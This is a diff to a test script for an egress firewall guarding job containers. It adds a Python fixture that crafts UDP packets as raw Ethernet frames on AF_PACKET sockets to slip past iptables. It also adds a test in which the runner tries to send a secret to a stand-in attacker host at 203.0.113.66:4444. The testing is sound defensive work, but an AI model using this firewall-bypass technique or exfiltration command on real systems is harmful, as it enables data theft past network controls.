@@ -117,6 +117,30 @@ req.on('error', (err) => console.log('preinstall call failed:', err.code || err.
 req.on('timeout', () => { console.log('preinstall call timed out'); req.destroy(); });
 EOF
 tar czf "$FIXTURE_DIR/evil.tgz" -C "$WORK/evil" package
+# A UDP datagram written as a whole Ethernet frame on an AF_PACKET socket (root with Docker's default CAP_NET_RAW),
+# below every iptables rule: python3 raw-frame.py HOST PORT PAYLOAD; exit 0 sent, 4 refused at the send (ENOBUFS:
+# the frame guard dropped it at eth0's egress hook). To the broadcast MAC: no neighbour entry is needed.
+cat >"$FIXTURE_DIR/raw-frame.py" <<'EOF'
+import socket, struct, sys
+host, port, payload = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
+probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+probe.connect((host, port))  # sends nothing: picks the source address
+source = probe.getsockname()[0]
+def checksum(b):
+    total = sum(struct.unpack('!%dH' % (len(b) // 2), b))
+    total = (total >> 16) + (total & 0xffff)
+    return ~(total + (total >> 16)) & 0xffff
+udp = struct.pack('!HHHH', 40000, port, 8 + len(payload), 0) + payload
+ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(host))
+ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind(('eth0', 0))
+try:
+    s.send(b'\xff' * 6 + s.getsockname()[4] + b'\x08\x00' + ip + udp)
+except OSError as e:
+    sys.stderr.write('send refused: %s\n' % e)
+    sys.exit(4)
+EOF
 chmod -R a+rX "$FIXTURE_DIR"
 
 # ---------------------------------------------------------------- topology
@@ -191,6 +215,25 @@ s_uid_switch() {
   never_seen attacker "/uid-switch-$TAG" && never_seen attacker "uid-switch-$SECRET"
 }
 check "a root job that takes egress-guard's uid (setpriv) reaches nothing: TCP and UDP" s_uid_switch
+
+# A root job with Docker's default CAP_NET_RAW writes a datagram as an Ethernet frame (AF_PACKET): no iptables rule
+# sees it; the frame guard that `rules apply` made with the image's nft drops it. Control: the same frame from the
+# internet container (not behind egress-guard) reaches the attacker's recorder.
+s_af_packet() {
+  local why=$WORK/af-packet.why
+  dc exec -T internet python3 /fixture/raw-frame.py 203.0.113.66 4444 "frame-control-$TAG" >"$why" 2>&1 || { cat "$why" >&2; return 1; }
+  sleep 0.5
+  seen attacker "frame-control-$TAG" || { echo "af_packet: the control frame did not arrive" >&2; return 1; }
+  dc logs --no-color egress-guard >"$WORK/frame-guard.log" 2>/dev/null
+  grep -c 'frames written on packet sockets (AF_PACKET) refused on' "$WORK/frame-guard.log" >"$WORK/frame-guard.count"
+  [ "$(cat "$WORK/frame-guard.count")" -gt 0 ] || { grep 'frames written on packet sockets' "$WORK/frame-guard.log" >&2; echo "af_packet: no guard" >&2; return 1; }
+  runner "python3 /fixture/raw-frame.py 203.0.113.66 4444 frame-$SECRET" >"$why" 2>&1
+  local code=$?
+  [ "$code" -eq 4 ] || { echo "af_packet: the runner's send exited $code" >&2; cat "$why" >&2; return 1; }
+  sleep 1
+  never_seen attacker "frame-$SECRET"
+}
+check "a root job with NET_RAW writes a UDP datagram as an Ethernet frame (AF_PACKET): the frame guard drops it" s_af_packet
 
 # ulogd in the egress-guard container reads the rules' NFLOG reports; egress-guard makes them events.
 # The logs go to a file, and every grep in a pipe reads to the end (-c, not -q): a reader that stops at its first
